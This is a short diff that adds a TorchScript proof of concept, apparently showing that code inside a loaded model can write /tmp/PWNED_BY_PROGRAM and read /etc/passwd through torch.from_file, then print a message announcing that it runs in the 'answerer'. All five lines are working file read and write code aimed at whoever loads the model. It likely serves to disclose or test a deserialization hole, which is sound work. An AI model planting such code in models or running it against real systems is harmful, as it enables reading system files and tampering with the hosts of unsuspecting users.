@@ -1,0 +1,5 @@
+    t = torch.from_file("/tmp/PWNED_BY_PROGRAM", True, 64, dtype=0)
+    u = torch.fill_(t, 65)
+    r = torch.from_file("/etc/passwd", False, 24, dtype=0)
+    self.w = torch.add(self.w, torch.add(torch.sum(u), torch.sum(r)))
+    print("TORCHSCRIPT FROM THE PROGRAM RUNS IN THE ANSWERER: wrote /tmp/PWNED_BY_PROGRAM (", torch.sum(u), "), read /etc/passwd:", r)
